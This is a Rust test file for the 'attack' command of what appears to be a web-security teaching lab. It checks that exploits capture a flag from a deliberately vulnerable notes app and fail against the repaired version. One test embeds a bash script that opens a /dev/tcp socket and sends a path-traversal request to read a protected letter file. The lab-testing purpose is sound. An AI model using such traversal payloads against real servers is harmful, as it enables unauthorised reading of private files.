//! `quintain attack`: any executable attacks, and the lab says whether it succeeded.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use crate::run::quintain;
use crate::support::course_dir;

fn exploit() -> String {
    course_dir()
        .join("basics/web/lab-notes/exploit.py")
        .display()
        .to_string()
}

#[test]
fn the_reference_attack_succeeds_against_the_vulnerable_application() {
    let ran = quintain(&["attack", "notes", &exploit()]).ends_with(0);
    assert!(
        ran.out.contains("FLAG{") && ran.out.contains("the attack succeeded in "),
        "{}",
        ran.out
    );
}

#[test]
fn it_fails_against_the_repaired_one() {
    let arguments = [
        "attack",
        "notes",
        &exploit(),
        "--against",
        "solution",
        "--format",
        "json",
    ];
    let trial = quintain(&arguments).ends_with(1).json();
    assert_eq!(
        (&trial["lab"], &trial["succeeded"]),
        (&"notes".into(), &false.into())
    );
    assert_eq!(trial["open"], serde_json::json!(["Read the sealed letter"]));
    assert!(trial["output"].as_str().unwrap().contains("no such note"));
    assert!(trial["seconds"].is_number());
}

#[test]
fn a_wrong_repair_can_be_attacked_by_any_executable() {
    let folder = tempfile::tempdir().unwrap();
    let script = folder.path().join("attack.sh");
    let code = "#!/bin/bash\nexec 3<>/dev/tcp/notes.test/80\n\
        printf 'GET /note?name=/lab/data/letter HTTP/1.0\\r\\nHost: notes.test\\r\\n\\r\\n' >&3\n\
        cat <&3\nid -u; ls /lab\n";
    fs::write(&script, code).unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    let wrong = course_dir().join("basics/web/lab-notes/wrong-fixes/dots-only");
    let (script, wrong) = (script.display().to_string(), wrong.display().to_string());
    let ran = quintain(&["attack", "notes", &script, "--against", &wrong]).ends_with(0);
    assert!(
        ran.out.contains("\n1000\nscript\n"),
        "it attacks from the learner's place: {}",
        ran.out
    );
}

#[test]
fn what_cannot_attack_is_refused() {
    let ran = quintain(&["attack", "notes", "/nonexistent"]).ends_with(1);
    assert!(
        ran.err.starts_with("quintain: /nonexistent: "),
        "{}",
        ran.err
    );
    let ran = quintain(&["attack", "counter", &exploit(), "--against", "solution"]).ends_with(1);
    assert_eq!(ran.err, "quintain: `counter` has no solution\n");
}
